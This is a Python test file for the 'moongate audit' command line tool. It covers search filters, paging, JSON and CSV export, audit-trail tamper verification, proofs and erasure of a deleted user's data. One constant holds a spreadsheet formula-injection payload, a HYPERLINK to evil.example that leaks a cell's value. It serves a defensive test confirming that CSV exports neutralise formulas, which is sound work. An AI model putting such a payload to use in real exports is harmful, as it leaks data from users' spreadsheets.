"""`moongate audit`: searched, exported, and proved."""

import csv
import io
import json
from pathlib import Path

import pytest

from gateway.domain.audit import Event
from gateway.domain.nodes import Node
from gateway.services import sealing
from gateway.services.context import Context
from tests.cli.conftest import Commands
from tests.conftest import Clock

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1)'


def happen(context: Context, node: Node, action: str, target: str = "it", note: str = "") -> None:
    with context.database.transaction():
        context.record(Event(node.id, action, "thing", target, detail={"note": note}))


def listed(moongate: Commands, *words: str) -> list[str]:
    return [row["action"] for row in moongate.json("audit", "list", "--tenant", "acme", *words)]


def test_a_list_is_searched_by_every_option(moongate: Commands, context: Context, acme: Node, clock: Clock) -> None:
    happen(context, acme, "thing.made", note="Zürich")
    clock.advance(seconds=86_400)
    happen(context, acme, "thing.lost", "other")
    assert listed(moongate, "--action", "thing.*") == ["thing.lost", "thing.made"]
    assert listed(moongate, "--target", "other") == ["thing.lost"]
    assert listed(moongate, "--text", "Zürich") == ["thing.made"]
    assert listed(moongate, "--since", "2026-09-22") == ["thing.lost"]
    assert listed(moongate, "--since", "2026-09-21T14:00:00Z", "--until", "2026-09-21T17:00:00+02:00") == ["thing.made", "tenant.created"]
    assert listed(moongate, "--outcome", "refused") == []
    assert listed(moongate, "--actor", "nobody") == []


def test_a_person_is_searched_by_login(moongate: Commands, acme: Node) -> None:
    words = ("--tenant", "acme", "--login", "lovelace", "--given-name", "Ada", "--family-name", "B", "--email", "a@acme.example")
    moongate.json("user", "create", *words)
    moongate.json("user", "disable", "--tenant", "acme", "lovelace")
    assert listed(moongate, "--target", "lovelace", "--action", "person.*") == ["person.disabled", "person.created"]
    assert listed(moongate, "--actor", "lovelace") == []


def test_pages_follow_the_last_id(moongate: Commands, context: Context, acme: Node) -> None:
    for number in range(5):
        happen(context, acme, f"thing.n{number}")
    first = moongate.json("audit", "list", "--tenant", "acme", "--limit", "3")
    assert listed(moongate, "--before", first[-1]["id"]) == ["thing.n1", "thing.n0", "tenant.created"]


def test_a_time_that_is_none_is_wrong_usage(moongate: Commands, acme: Node) -> None:
    assert moongate.run("audit", "list", "--tenant", "acme", "--since", "yesterday").exit_code == 2


def test_an_export_is_one_document_a_line_the_oldest_first(moongate: Commands, context: Context, acme: Node) -> None:
    happen(context, acme, "thing.made", note="a\nb")
    lines = [json.loads(line) for line in moongate.words("audit", "export", "--tenant", "acme").splitlines()]
    assert [line["action"] for line in lines] == ["tenant.created", "thing.made"]
    assert lines[1]["detail"] == {"note": "a\nb"}
    assert lines[1]["tenant"] == "acme"


def test_an_export_as_csv_commands_no_spreadsheet(moongate: Commands, context: Context, acme: Node) -> None:
    for target in (FORMULA, "+1", "-1", "@x", "\tx", "\r\nx", " =1", "\uff1d1", "plain, 'quoted' \"text\""):
        happen(context, acme, "thing.made", target)
    rows = list(csv.DictReader(io.StringIO(moongate.run("audit", "export", "--tenant", "acme", "--format", "csv").stdout_bytes.decode())))
    targets = [row["target"] for row in rows][1:]
    assert targets[0] == f"'{FORMULA}"
    assert [target[:1] for target in targets] == ["'"] * 8 + ["p"]
    assert targets[-1] == "plain, 'quoted' \"text\""


def test_an_export_of_nothing_has_its_columns(moongate: Commands, acme: Node) -> None:
    ended = moongate.words("audit", "export", "--tenant", "acme", "--format", "csv", "--action", "nothing")
    assert ended.startswith("number,id,at,tenant,action,")
    assert len(ended.splitlines()) == 1


def test_an_export_to_a_file_is_for_its_owner_alone_and_overwrites_nothing(moongate: Commands, acme: Node, tmp_path: Path) -> None:
    path = tmp_path / "trail.ndjson"
    assert moongate.json("audit", "export", "--tenant", "acme", "--output", str(path)) == {"events": 1, "file": str(path)}
    assert path.stat().st_mode & 0o777 == 0o600
    assert moongate.run("audit", "export", "--tenant", "acme", "--output", str(path)).exit_code == 2
    assert moongate.run("audit", "export", "--tenant", "acme", "--json").exit_code == 2


def test_a_whole_trail_is_said_to_be_whole(moongate: Commands, acme: Node) -> None:
    sealing.seal_all(moongate.house)
    document = moongate.json("audit", "verify")
    assert (document["outcome"], document["events"], document["findings"]) == ("whole", 2, [])
    assert "whole" in moongate.words("audit", "verify")


def test_a_changed_event_fails_the_command_and_is_told(moongate: Commands, context: Context, acme: Node) -> None:
    sealing.seal_all(moongate.house)
    context.database.script("UPDATE audit SET outcome = 'refused' WHERE leaf = 1")
    ended = moongate.run("audit", "verify", "--json")
    assert ended.exit_code == 1
    assert json.loads(ended.stderr)["error"]["code"] == "E_Audit_Broken"
    (finding,) = json.loads(ended.stdout)["findings"]
    assert (finding["kind"], finding["number"]) == ("changed", 1)
    told = moongate.run("audit", "verify")
    assert told.exit_code == 1
    assert "changed" in told.stdout


def test_a_head_that_was_kept_is_compared(moongate: Commands, context: Context, acme: Node, tmp_path: Path) -> None:
    sealing.seal_all(moongate.house)
    kept = tmp_path / "head.json"
    kept.write_text(json.dumps(moongate.json("audit", "head")))
    assert moongate.json("audit", "verify", "--head", str(kept))["outcome"] == "whole"
    for table in ("audit", "audit_leaf", "audit_head"):
        context.database.script(f"DELETE FROM {table}")  # noqa: S608 -- names of our own tables
    context.database.script("UPDATE audit_tree SET size = 0, frontier = ''")
    assert moongate.json("audit", "verify")["outcome"] == "whole"
    assert moongate.run("audit", "verify", "--head", str(kept)).exit_code == 1


@pytest.mark.parametrize("text", ["", "{}", "[]", "{", "x", '{"statement": 1}'])
def test_a_file_that_is_no_head_proves_nothing(moongate: Commands, acme: Node, tmp_path: Path, text: str) -> None:
    sealing.seal_all(moongate.house)
    kept = tmp_path / "head.json"
    kept.write_text(text)
    assert moongate.run("audit", "verify", "--head", str(kept)).exit_code == 1


def test_an_event_is_proved(moongate: Commands, acme: Node) -> None:
    sealing.seal_all(moongate.house)
    event = moongate.json("audit", "list", "--tenant", "acme")[0]
    proof = moongate.json("audit", "proof", event["id"])
    assert (proof["number"], len(proof["path"]), proof["head"]["size"]) == (1, 1, 2)
    assert event["id"] in proof["entry"]
    assert moongate.refusal("audit", "proof", "nothing") == "E_Resource_Not_Found"


def test_a_head_is_refused_before_anything_was_sealed(moongate: Commands, acme: Node) -> None:
    assert moongate.refusal("audit", "head") == "E_Resource_Not_Found"


def test_a_person_who_is_gone_is_erased_and_one_who_is_there_is_not(moongate: Commands, acme: Node) -> None:
    person = moongate.json(
        "user",
        "create",
        "--tenant",
        "acme",
        "--login",
        "lovelace",
        "--given-name",
        "Ada",
        "--family-name",
        "B",
        "--email",
        "a@acme.example",
    )
    assert moongate.refusal("audit", "erase", "--tenant", "acme", person["id"]) == "E_Scope_Mismatch"
    moongate.json("user", "delete", "--tenant", "acme", "lovelace")
    assert moongate.json("audit", "erase", "--tenant", "acme", person["id"])["events"] == 2
    assert "lovelace" not in moongate.words("audit", "export", "--tenant", "acme")
